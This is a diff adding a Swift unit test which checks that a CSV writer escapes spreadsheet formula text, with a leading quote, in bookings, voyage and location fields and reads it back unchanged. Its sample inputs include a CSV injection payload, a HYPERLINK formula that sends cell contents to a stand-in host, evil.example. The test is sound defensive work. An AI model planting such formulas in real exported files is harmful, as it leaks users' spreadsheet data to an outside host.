@@ -163,6 +163,32 @@ import Testing
         #expect(again.locations == quoted && again.voyages == [voyage])
     }
 
+    /// A text a spreadsheet would take for a formula is written after a `'`, quoted (OWASP's CSV injection guidance), and
+    /// read back as it was: in a bookings file, in a schedule's names, and in a location's name.
+    @Test func aFormulaIsWrittenAsTextAndReadBackAsItWas() throws {
+        let formulas = [#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#, "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+        #expect(CSVWriter.field(formulas[0]) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")""#)
+        #expect(formulas.allSatisfy { CSVWriter.field($0).hasPrefix("\"'") }, "\(formulas.map(CSVWriter.field))")
+        // Text that only holds such characters later, or a quote before another one, stays as it was.
+        #expect(CSVWriter.field("A=1") == "A=1" && CSVWriter.field("'x") == "'x")
+        let network = try BundledData.worldSmall().network
+        let template = try BundledData.worldSmallBookings(for: network)[0]
+        let bookings = try formulas.dropLast(2).map { id in
+            try Booking(id: id, teu: template.teu, specification: template.specification, revenuePerTEU: template.revenuePerTEU)
+        }
+        let again = try CSVImporter().importBookings(CSVFile(name: "b.csv", text: CSVWriter.bookings(bookings)), network: network).value
+        #expect(again.map(\.id) == bookings.map(\.id))
+        let locations = [Location(code: "JPAMA", name: "=1+1", transshipmentTime: .seconds(5400))]
+        let voyage = Voyage(
+            number: "-V1", movements: [CarrierMovement(from: "JPAMA", to: "JPAMA", departure: Fixture.at(0), arrival: Fixture.at(1), capacity: 7)],
+            vessel: "@vessel", service: "+service")
+        let schedule = try ScheduleNetwork(locations: locations, voyages: [voyage])
+        let read = try CSVImporter().importSchedule(
+            locations: CSVFile(name: "l.csv", text: CSVWriter.locations(of: schedule)),
+            schedule: CSVFile(name: "s.csv", text: CSVWriter.schedule(of: schedule))).value.network
+        #expect(read.locations == locations && read.voyages == [voyage])
+    }
+
     @Test func bookingsWrittenBackReadIdentically() throws {
         let network = try BundledData.worldSmall().network
         let bookings = try BundledData.worldSmallBookings(for: network)
